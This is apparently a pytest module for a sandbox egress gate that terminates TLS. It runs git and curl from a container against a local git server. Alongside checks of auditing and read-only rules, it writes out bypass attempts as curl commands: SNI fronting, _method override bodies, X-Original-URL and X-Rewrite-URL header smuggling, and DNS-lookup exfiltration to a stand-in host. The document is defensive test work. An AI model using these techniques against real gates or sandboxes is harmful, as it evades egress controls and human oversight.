"""git and curl in a real bottle through the real gate, which terminates their TLS: a clone and a push
work and show in the audit request by request; read-only rules let the clone through and refuse the push
before the server sees it; a client that trusts only the server's own CA fails while the gate terminates
its tunnel, and works once its host is not inspected, the tunnel still held to its TLS name.

The server is ``git http-backend`` (smart HTTP, push enabled by ``http.receivepack``) behind a small Python
CGI host with TLS, in a container of the bottle image with python3 on the tests' own network. It answers to
three names, each with a leaf of a CA made here (chosen by SNI), and serves the same repository under each:

- ``git-open``: allowed and inspected, no rules;
- ``git-read``: inspected under the rules the ``github-read`` preset gives github.com (fetch, not push);
- ``pinned``: ``inspect = false``, relayed opaquely after the first-flight check.

The gate trusts the CA toward the server (``Launch.upstream_ca_files``); the bottle does not (it trusts the
gate's CA), except where a test hands a client the server's CA on purpose. The server logs every request it
reads, so a push that got past the gate shows there and in the repository's ref. One server and one bottle
serve the whole module.
"""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import pytest
from docker.models.containers import Container

from claude_bottle.agent.presets import READ_PRESETS
from claude_bottle.gate.ca import RunCA
from claude_bottle.policy.hosts import Allowlist
from claude_bottle.runtime.run import Run
from claude_bottle.verify.standins import in_bottle
from tests.bottle.conftest import TEST_LABEL, ImagesFor, Upstream, bottle_against, gate_audit, gate_datagrams
from tests.bottle.https_servers import leaf_pem
from tests.bottle.test_gate_ca import PACKAGES as PYTHON_PACKAGES  # its bottle image has python3: built once
from tests.helpers import tar_archive

pytestmark = pytest.mark.docker
OPEN, READ, PINNED = "git-open", "git-read", "pinned"
PORT = 8443
REPO = "/bottle/repo.git"  # owner/name.git, as on github.com, so the preset's rules apply as written
SERVED_REPO = "/tmp/git" + REPO
BIG_PUSH = 2_000_000  # bytes of random data in the pushed commit: past git's 1 MiB http.postBuffer, so git
# sends a probe first and then the pack chunked, streamed through the gate's DLP scan
CA_IN_BOTTLE = "/tmp/server-ca.pem"  # the server's own CA, for the pinning client
GIT_ENV = ("GIT_TERMINAL_PROMPT=0 GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@example.invalid "
           "GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@example.invalid")

SERVER = r'''
import http.server, json, os, ssl, subprocess, sys, threading

NAMES, PORT = sys.argv[1].split(","), int(sys.argv[2])
ROOT, REPO, LOG = "/tmp/git", "/tmp/git/bottle/repo.git", "/tmp/requests.jsonl"
lock = threading.Lock()

def git(*args, cwd=None):
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)

def seed():
    git("init", "-q", "--bare", "-b", "main", REPO)
    git("--git-dir", REPO, "config", "http.receivepack", "true")
    git("init", "-q", "-b", "main", "/tmp/seed")
    with open("/tmp/seed/README", "w") as f:
        f.write("served by git http-backend\n")
    git("add", "README", cwd="/tmp/seed")
    git("-c", "user.name=server", "-c", "user.email=server@example.invalid", "commit", "-q", "-m", "first",
        cwd="/tmp/seed")
    git("push", "-q", REPO, "main", cwd="/tmp/seed")

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 60

    def log_message(self, *args):
        pass

    def read_body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            chunks = []
            while size := int(self.rfile.readline().split(b";")[0].strip(), 16):
                chunks.append(self.rfile.read(size))
                self.rfile.readline()
            while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                pass
            return b"".join(chunks)
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def handle_one(self):
        body = self.read_body()
        path, _, query = self.path.partition("?")
        with lock, open(LOG, "a") as log:
            log.write(json.dumps({"method": self.command, "path": path, "query": query,
                                  "host": self.headers.get("Host"), "body": body.decode("latin-1")[:1000],
                                  "length": len(body), "chunked": "Transfer-Encoding" in self.headers}) + "\n")
        if ".git/" in path:
            self.cgi(path, query, body)
        else:
            self.answer(200 if self.command in ("GET", "HEAD") else 201, b"hello from the git server\n",
                        [("Content-Type", "text/plain")])

    def cgi(self, path, query, body):
        env = {"PATH": os.environ["PATH"], "HOME": "/tmp", "GIT_PROJECT_ROOT": ROOT, "GIT_HTTP_EXPORT_ALL": "1",
               "GATEWAY_INTERFACE": "CGI/1.1", "SERVER_PROTOCOL": "HTTP/1.1", "REQUEST_METHOD": self.command,
               "PATH_INFO": path, "QUERY_STRING": query, "CONTENT_LENGTH": str(len(body)),
               "CONTENT_TYPE": self.headers.get("Content-Type", ""), "REMOTE_ADDR": self.client_address[0]}
        for name, value in self.headers.items():
            if name.lower() not in ("content-type", "content-length", "transfer-encoding"):
                env["HTTP_" + name.upper().replace("-", "_")] = value
        done = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True, timeout=60)
        if done.stderr:
            print(done.stderr.decode("utf-8", "replace"), flush=True)
        end = b"\r\n\r\n" if b"\r\n\r\n" in done.stdout else b"\n\n"
        head, _, data = done.stdout.partition(end)
        status, headers = 200, []
        for line in head.decode("latin-1").splitlines():
            name, _, value = line.partition(":")
            if name.lower() == "status":
                status = int(value.split()[0])
            elif name:
                headers.append((name.strip(), value.strip()))
        self.answer(status, data, headers)

    def answer(self, status, data, headers):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_HEAD = do_POST = do_PUT = handle_one

contexts = {}
for name in NAMES:
    contexts[name] = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    contexts[name].load_cert_chain(f"/opt/tls/{name}.pem")

def by_name(sock, name, _):
    if name in contexts:
        sock.context = contexts[name]

contexts[NAMES[0]].sni_callback = by_name
seed()
server = http.server.ThreadingHTTPServer(("0.0.0.0", PORT), Handler)
server.socket = contexts[NAMES[0]].wrap_socket(server.socket, server_side=True)
print("git server serving", flush=True)
server.serve_forever()
'''


@dataclass
class GitServer:
    container: Container
    ca_file: Path  # its CA: the gate trusts it toward the server

    def requests(self) -> list[dict[str, Any]]:
        _, output = self.container.exec_run(["sh", "-c", "cat /tmp/requests.jsonl 2>/dev/null; true"])
        return [json.loads(line) for line in output.decode("utf-8").splitlines() if line]

    def ref(self) -> str:
        code, output = self.container.exec_run(["git", "--git-dir", SERVED_REPO, "rev-parse", "refs/heads/main"])
        assert code == 0, output
        return output.decode().strip()


@pytest.fixture(scope="module")
def git_server(client: docker.DockerClient, upstream: Upstream, images_for: ImagesFor,
               tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitServer]:
    image, _ = images_for(*PYTHON_PACKAGES)
    names = (OPEN, READ, PINNED)
    ca = RunCA.generate(Allowlist.parse(list(names)).patterns)
    ca_file = tmp_path_factory.mktemp("ca") / "git-server-ca.pem"
    ca_file.write_bytes(ca.certificate_pem)
    ca_file.chmod(0o644)  # read by the gate's user
    container = client.containers.create(
        image, entrypoint=["python3", "/opt/git-server.py", ",".join(names), str(PORT)],
        name=f"claude-bottle-test-{secrets.token_hex(3)}-git", labels={TEST_LABEL: "1"}, network=upstream.network,
        networking_config={upstream.network: client.api.create_endpoint_config(aliases=list(names))},
        cap_drop=["ALL"], security_opt=["no-new-privileges"])
    try:
        container.put_archive("/opt", tar_archive({"git-server.py": SERVER.encode(),
                                                   **{f"tls/{name}.pem": leaf_pem(ca, name) for name in names}},
                                                  mode=0o644))
        container.start()
        deadline = time.monotonic() + 30
        while b"git server serving" not in container.logs():
            container.reload()
            if container.status == "exited" or time.monotonic() > deadline:
                raise AssertionError(container.logs().decode())
            time.sleep(0.1)
        yield GitServer(container, ca_file)
    finally:
        container.remove(force=True)


def read_only_rules() -> list[str]:
    """The rules the github-read preset gives github.com: fetch and clone, no push."""
    (entry,) = [entry for entry in READ_PRESETS["github-read"] if entry.host.host == "github.com"]
    return [f"{rule.method} {rule.path}" for rule in entry.allow]


def agent_toml(subnet: str) -> str:
    return (f'version = 1\nallow = ["{OPEN}:{PORT}"]\nallow_private = ["{subnet}"]\n'
            f'[[egress]]\nhost = "{READ}:{PORT}"\nallow = {json.dumps(read_only_rules())}\n'
            f'[[egress]]\nhost = "{PINNED}:{PORT}"\ninspect = false\n')


@pytest.fixture(scope="module")
def bottle(client: docker.DockerClient, upstream: Upstream, built_images: tuple[str, str], git_server: GitServer,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    with bottle_against(client, upstream, "clients", agent_toml(upstream.subnet), tmp_path_factory.mktemp("clients"),
                        (git_server.ca_file,)) as run:
        code, output = in_bottle(run, f"cat > {CA_IN_BOTTLE}", stdin=git_server.ca_file.read_text())
        assert code == 0, output
        yield run


def eventually(found: Callable[[], list[dict[str, Any]]], seconds: float = 10) -> list[dict[str, Any]]:
    """What ``found`` returns once it is not empty (a tunnel's audit line comes when it closes)."""
    deadline = time.monotonic() + seconds
    while not (result := found()) and time.monotonic() < deadline:
        time.sleep(0.1)
    return result


def clone_commit_push(host: str, where: str, size: int) -> str:
    """A script: clone the repository from ``host`` into /tmp (the workspace's .git is read-only), commit a
    file of ``size`` random bytes, print the new commit, and push it."""
    return (f"cd /tmp && rm -rf {where} && {GIT_ENV} timeout 60 git clone -q https://{host}:{PORT}{REPO} {where} "
            f"2>&1 && cd {where} && head -c {size} /dev/urandom > change && git add change && "
            f"{GIT_ENV} git commit -q -m 'from the bottle' && git rev-parse HEAD && "
            f"{GIT_ENV} GIT_TRACE_CURL=1 GIT_TRACE_CURL_NO_DATA=1 timeout 60 git push origin main 2>&1")


def test_git_clones_and_pushes_through_the_terminating_gate(bottle: Run, git_server: GitServer) -> None:
    before = git_server.ref()
    code, output = in_bottle(bottle, clone_commit_push(OPEN, "open", BIG_PUSH))
    assert code == 0, output
    commit = next(line for line in output.splitlines() if len(line) == 40 and line.isalnum())
    assert commit != before and git_server.ref() == commit, output  # the push reached the server
    got = [r for r in git_server.requests() if r["host"] == f"{OPEN}:{PORT}"]
    seen = {(r["method"], r["path"], r["query"]) for r in got}
    assert {("GET", f"{REPO}/info/refs", "service=git-upload-pack"), ("POST", f"{REPO}/git-upload-pack", ""),
            ("GET", f"{REPO}/info/refs", "service=git-receive-pack"),
            ("POST", f"{REPO}/git-receive-pack", "")} <= seen, seen
    (pack,) = [r for r in got if r["path"] == f"{REPO}/git-receive-pack" and r["length"] > BIG_PUSH]
    assert pack["chunked"], pack  # streamed through the gate as git sent it
    audited = [r for r in gate_audit(bottle) if r["target"] == f"{OPEN}:{PORT}" and r["method"] != "CONNECT"]
    assert {(r["method"], r["path"], r["decision"], r["status"]) for r in audited} >= {
        ("GET", f"{REPO}/info/refs", "allow", 200), ("POST", f"{REPO}/git-upload-pack", "allow", 200),
        ("POST", f"{REPO}/git-receive-pack", "allow", 200)}, audited
    assert all("inspected request in a tunnel" in r["reason"] for r in audited), audited
    tunnels = eventually(lambda: [r for r in gate_audit(bottle) if r["method"] == "CONNECT"
                                  and r["target"] == f"{OPEN}:{PORT}"])
    assert len(tunnels) >= 2, tunnels  # git's clone and push each end their tunnel
    assert all((r["decision"], r["status"]) == ("allow", 200) and r["reason"].endswith("each request audited")
               for r in tunnels), [r["reason"] for r in tunnels]


def test_read_only_rules_let_a_clone_through_and_refuse_the_push(bottle: Run, git_server: GitServer) -> None:
    before = git_server.ref()
    start = len(git_server.requests())
    code, output = in_bottle(bottle, clone_commit_push(READ, "read", 1000))
    assert code != 0 and "The requested URL returned error: 403" in output, output
    assert f"x-deny-reason: POST matches no allow rule of [[egress]] {READ}:{PORT}" in output, output
    assert git_server.ref() == before, "the push moved the server's ref"
    seen = [(r["method"], r["path"]) for r in git_server.requests()[start:]]
    assert ("POST", f"{REPO}/git-upload-pack") in seen, seen  # the clone went through
    assert ("POST", f"{REPO}/git-receive-pack") not in seen, seen  # the push never arrived
    audited = [r for r in gate_audit(bottle) if r["target"] == f"{READ}:{PORT}" and r["method"] != "CONNECT"]
    (clone,) = {r["rule"] for r in audited if r["method"] == "POST" and r["path"] == f"{REPO}/git-upload-pack"}
    assert clone == f"[[egress]] {READ}:{PORT} allow POST /*/*/git-upload-pack"
    (push,) = [r for r in audited if r["path"] == f"{REPO}/git-receive-pack"]
    assert (push["method"], push["decision"], push["status"]) == ("POST", "deny", 403), push
    assert push["rule"] == f"[[egress]] {READ}:{PORT} allow list", push
    assert push["reason"].startswith(f"POST matches no allow rule of [[egress]] {READ}:{PORT}"), push


def test_curl_get_and_post_through_the_terminating_gate(bottle: Run, git_server: GitServer) -> None:
    note = "note-" + secrets.token_hex(8)
    code, output = in_bottle(bottle, f"curl -sS --max-time 20 https://{OPEN}:{PORT}/hello && "
                                         f"curl -sS --max-time 20 -d {note} https://{OPEN}:{PORT}/notes")
    assert code == 0 and output.count("hello from the git server") == 2, output
    got = [r for r in git_server.requests() if r["path"] == "/notes"]
    assert got and got[-1]["method"] == "POST" and got[-1]["body"] == note, got
    audited = {(r["method"], r.get("path"), r["decision"], r["status"]) for r in gate_audit(bottle)
               if r["target"] == f"{OPEN}:{PORT}"}
    assert {("GET", "/hello", "allow", 200), ("POST", "/notes", "allow", 201)} <= audited, audited


def test_a_pinning_client_works_only_where_the_host_is_not_inspected(bottle: Run, git_server: GitServer) -> None:
    """curl trusting only the server's own CA: the gate's leaf fails it on an inspected host; an opaque
    tunnel (inspect = false) carries its TLS to the server itself."""
    pinned = f"curl -sS --max-time 20 --cacert {CA_IN_BOTTLE} --capath /nonexistent"
    code, output = in_bottle(bottle, f"{pinned} https://{OPEN}:{PORT}/pinned-inspected 2>&1")
    assert code != 0 and "hello" not in output, output
    failed = eventually(lambda: [r for r in gate_audit(bottle) if r["method"] == "CONNECT"
                                 and r["target"] == f"{OPEN}:{PORT}" and "TLS handshake with the client failed"
                                 in r["reason"]])
    assert failed and failed[-1]["decision"] == "error", gate_audit(bottle)[-3:]
    assert "/pinned-inspected" not in [r["path"] for r in git_server.requests()]

    code, output = in_bottle(bottle, f"{pinned} https://{PINNED}:{PORT}/pinned-opaque 2>&1")
    assert code == 0 and "hello from the git server" in output, output
    (seen,) = [r for r in git_server.requests() if r["path"] == "/pinned-opaque"]
    assert seen["host"] == f"{PINNED}:{PORT}"
    opened = eventually(lambda: [r for r in gate_audit(bottle) if r["method"] == "CONNECT"
                                 and r["target"] == f"{PINNED}:{PORT}" and r["decision"] == "allow"])
    assert opened and f"TLS server name {PINNED} matches the CONNECT host" in opened[-1]["reason"], opened
    assert "TLS terminated" not in opened[-1]["reason"], opened
    requests = [r for r in gate_audit(bottle) if r["target"] == f"{PINNED}:{PORT}" and r["method"] != "CONNECT"]
    assert requests == [], requests  # opaque: the gate saw no request


def test_an_opaque_tunnel_still_carries_only_its_own_host(bottle: Run, git_server: GitServer) -> None:
    """The attack: a tunnel to the host not inspected, whose ClientHello names a host under rules, to reach
    that host unseen (the server answers both names at one address)."""
    code, output = in_bottle(bottle, f"curl -sS --max-time 20 --cacert {CA_IN_BOTTLE} --capath /nonexistent "
                                         f"--connect-to {READ}:{PORT}:{PINNED}:{PORT} "
                                         f"https://{READ}:{PORT}/fronted 2>&1")
    assert code != 0 and "hello" not in output, output
    assert "/fronted" not in [r["path"] for r in git_server.requests()]
    refused = eventually(lambda: [r for r in gate_audit(bottle) if r["method"] == "CONNECT"
                                  and r["target"] == f"{PINNED}:{PORT}" and r["decision"] == "deny"])
    assert refused, gate_audit(bottle)[-3:]
    assert f"TLS server name {READ} does not match the CONNECT host {PINNED}" in refused[-1]["reason"], refused


def test_a_post_that_names_another_method_in_its_body_is_judged_as_that_method(bottle: Run,
                                                                              git_server: GitServer) -> None:
    """The attack on read-only rules a Rails, Laravel or Spring server would fall for: a POST the rules allow
    (git's fetch) whose form body names DELETE, PUT or PATCH in a ``_method`` field, URL-encoded (curl -d),
    multipart (curl -F) or gzipped (which Express's body parsers inflate). All are refused before the server
    sees them; the same POST without it passes."""
    url = f"https://{READ}:{PORT}{REPO}/git-upload-pack"
    curl = "curl -sS --max-time 20 -o /dev/null -D - -w '%{http_code}\\n'"
    gzipped = f"printf _method=PATCH | gzip | {curl} --data-binary @- -H 'Content-Encoding: gzip' {url}"
    start = len(git_server.requests())
    code, output = in_bottle(bottle, f"{curl} -d _method=DELETE {url}; {curl} -F _method=put -F x=1 {url}; "
                                     f"{gzipped}; {curl} -d want=1 {url}")
    assert code == 0, output
    statuses = [line for line in output.splitlines() if line.isdigit()]
    assert statuses[:3] == ["403", "403", "403"] and statuses[3] != "403", output
    for named in ("DELETE", "PUT", "PATCH"):
        assert (f"x-deny-reason: {named} matches no allow rule of [[egress]] {READ}:{PORT}" in output
                and "(the method a method override names)" in output), output
    bodies = [r["body"] for r in git_server.requests()[start:] if r["path"] == f"{REPO}/git-upload-pack"]
    assert bodies == ["want=1"], bodies


def test_a_request_that_names_another_path_in_a_header_is_judged_at_that_path(bottle: Run,
                                                                            git_server: GitServer) -> None:
    """The same attack by path: git's fetch POST, which the rules allow, naming the push's path in the
    headers Symfony and Zend applications routed by (``X-Original-URL``, ``X-Rewrite-URL``). Both are refused
    before the server sees them."""
    url = f"https://{READ}:{PORT}{REPO}/git-upload-pack"
    curl = "curl -sS --max-time 20 -o /dev/null -D - -w '%{http_code}\\n' -d want=2"
    code, output = in_bottle(bottle, f"{curl} -H 'X-Original-URL: {REPO}/git-receive-pack' {url}; "
                                     f"{curl} -H 'X_Rewrite_URL: {REPO}/git-receive-pack?x=1' {url}")
    assert code == 0, output
    assert [line for line in output.splitlines() if line.isdigit()] == ["403", "403"], output
    reasons = [line for line in output.splitlines() if line.startswith("x-deny-reason:")]
    assert len(reasons) == 2 and all(
        line.startswith(f"x-deny-reason: POST matches no allow rule of [[egress]] {READ}:{PORT}")
        and line.endswith("(the path an X-Original-URL or X-Rewrite-URL header names)") for line in reasons), output
    assert not any(r["body"] == "want=2" for r in git_server.requests()), git_server.requests()[-3:]


def test_a_refused_head_request_gets_the_refusals_head(bottle: Run, git_server: GitServer) -> None:
    """``curl -I`` refused inside TLS (a HEAD naming DELETE): the gate answers 403 with its reason and no body
    (a response to HEAD has none), not a reset."""
    code, output = in_bottle(bottle, f"curl -sS --max-time 20 -I -H 'X-HTTP-Method-Override: DELETE' "
                                     f"https://{READ}:{PORT}{REPO}/info/refs 2>&1")
    assert code == 0, output
    assert "\nHTTP/1.1 403 " in output and "content-length: " in output, output  # after the CONNECT's 200
    assert f"x-deny-reason: DELETE matches no allow rule of [[egress]] {READ}:{PORT}" in output, output


def test_a_refused_name_is_never_looked_up(client: docker.DockerClient, bottle: Run, built_images: tuple[str, str]
                                           ) -> None:
    """A bottle that names ``<data>.attacker.example`` exfiltrates through the lookup alone, whatever the gate
    then refuses: the gate's datagrams (DNS, wherever it goes) never carry a refused name, by CONNECT or by
    plain HTTP. An allowed name is looked up (the capture's control)."""
    leak = f"leak-{secrets.token_hex(4)}"
    with gate_datagrams(client, bottle, built_images[1]) as datagrams:
        curl = "curl -s -m 20 -o /dev/null -w"
        _, output = in_bottle(bottle, f"{curl} '%{{http_connect}} ' https://{leak}.exfil.invalid/; "
                                      f"{curl} '%{{http_code}} ' http://{leak}.plain.invalid/; "
                                      f"{curl} '%{{http_code}}' -k 'https://{OPEN}:{PORT}{REPO}/info/refs?service=git-upload-pack'")
        assert output.split() == ["403", "403", "200"], output
        deadline = time.monotonic() + 10
        while not datagrams.carrying(OPEN) and time.monotonic() < deadline:
            time.sleep(0.3)
        assert datagrams.carrying(OPEN), "the capture saw the allowed name's lookup"
        assert datagrams.carrying(leak) == 0, "a refused name was looked up"
